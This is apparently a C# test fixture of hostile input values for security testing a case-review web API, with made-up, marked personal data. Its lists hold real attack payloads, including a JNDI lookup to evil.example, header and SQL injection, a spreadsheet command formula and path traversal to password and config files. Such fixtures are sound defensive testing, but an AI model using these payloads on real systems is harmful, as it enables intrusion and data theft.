namespace CaseReview.IntegrationTests.Security.HostileInput;

/// <summary>
/// The values the suite sends. Personal data is made up and marked: every name, email, address and free text
/// holds <see cref="Marker"/>, and the few values that cannot (telephone numbers, postcodes) are listed, so a log
/// line that holds any of them is caught (<see cref="Watched"/>). Route values and query strings get only the
/// hostile values without personal data: a URL is not where personal data goes.
/// </summary>
internal static class HostileValues
{
    /// <summary>In every personal value the suite sends; never in anything the app says by itself.</summary>
    public const string Marker = "Zyxqvk";

    public static readonly string[] Names = [$"Zara {Marker}-Okafor", $"Brendan O'{Marker}", $"Siân {Marker}ová", $"{Marker} Li"];

    public static readonly string[] Emails = [$"zara.{Marker}@victim.example", $"b.{Marker}+asb@mail.victim.example"];

    public static readonly string[] Phones = ["07700 900461", "01632 960782"];

    public static readonly string[] Postcodes = ["ZX9 7QV", "QV1 9ZX"];

    public static readonly string[] Texts = [$"Flat 3, 12 {Marker} Road, Redditch", $"The man at number 14 ({Marker}) shouts at my children."];

    /// <summary>What no log line may hold: the marker, and the personal values without it (with and without spaces).</summary>
    public static IEnumerable<string> Watched =>
        [Marker, .. Phones, .. Phones.Select(p => p.Replace(" ", string.Empty, StringComparison.Ordinal)), .. Postcodes];

    /// <summary>Control characters, CR/LF header injection, bidi overrides, lone surrogates: in a JSON string or form field.</summary>
    public static readonly string[] ControlStrings =
    [
        $"Police\r\nBcc: {Marker}@evil.example",
        $"{Marker}\r\n\r\n<script>alert(1)</script>",
        $"{Marker}\nSubject: injected",
        $"{Marker}\0null",
        $"{Marker}\u001b[31mred\u001b[0m",
        $"{Marker}\u202egnp.exe",
        $"{Marker}\ud800",
        $"{Marker}\t\v\f\u0085\u2028\u2029",
        $"=cmd|' /C calc'!A0 {Marker}",
        $"' OR 1=1; DROP TABLE Applications; -- {Marker}",
        $"{{{{{Marker}}}}} ${{jndi:ldap://evil.example/a}} {{0}}",
        $"  {Marker}  ",
    ];

    /// <summary>Route values: path traversal, encoded separators, overflow, control characters, unknown names.</summary>
    public static readonly string[] RouteValues =
    [
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fappsettings.json",
        "..%5c..%5cweb.config",
        "%00",
        "CR%0d%0aX-Injected:%201",
        "-1",
        "0",
        "2147483648",
        "99999999999999999999999",
        "1e309",
        "Nope",
        "%E2%80%AE%F0%9F%92%A9",
        "%27%20OR%201%3D1--",
        "CR-2026-99999",
        new string('A', 3000),
    ];

    /// <summary>Query string values.</summary>
    public static readonly string[] QueryValues =
    [
        "-1", "0", "2147483648", "-2147483649", "9223372036854775808", "1e309", "NaN", "1.5", "Nope", "99", "",
        "%00", "%0d%0aX-Injected:%201", "..%2f..%2fetc%2fpasswd", "2026-13-45", "true%20false", new string('9', 400), new string('x', 3000),
    ];

    /// <summary>Numbers for a numeric JSON field.</summary>
    public static readonly string[] JsonNumbers =
        ["-1", "0", "2147483648", "-2147483649", "9223372036854775808", "1e309", "-1e309", "1.5", "1E+2", "\"12\"", "\"NaN\"", "\"Infinity\""];

    /// <summary>Values for an enum field: unknown names and numbers (which the API refuses by design).</summary>
    public static readonly string[] JsonEnums = ["\"Nope\"", "99", "-1", "0", "\"99\"", "\"\"", "\"Individual, Business\"", "\" Police \"", "2147483648"];

    /// <summary>Values for a date field.</summary>
    public static readonly string[] JsonDates = ["\"2026-02-30\"", "\"0001-01-01\"", "\"9999-12-31\"", "\"-1\"", "\"2026-10-20T25:00:00\"", "\"20261020\"", "1735689600"];

    /// <summary>Malformed JSON bodies.</summary>
    public static readonly string[] MalformedJson =
    [
        "", "{", "}", "[]", "null", "\"just a string\"", "12", "{\"a\":}", "{'single':'quotes'}", "{\"trailing\":1,}",
        "{\"unterminated\":\"abc", "{\"a\":1}{\"b\":2}", "{\"a\":1} trailing", "\uFEFF{}", "{\"\\u0000\":1}", "{\"a\":\"\\ud800\"}",
        "{\"a\":NaN}", "{\"a\":01}", "{\"a\":" + new string('1', 500) + "}", new string('[', 5000) + new string(']', 5000),
        string.Concat(Enumerable.Repeat("{\"a\":", 2000)) + "1" + new string('}', 2000),
    ];
}
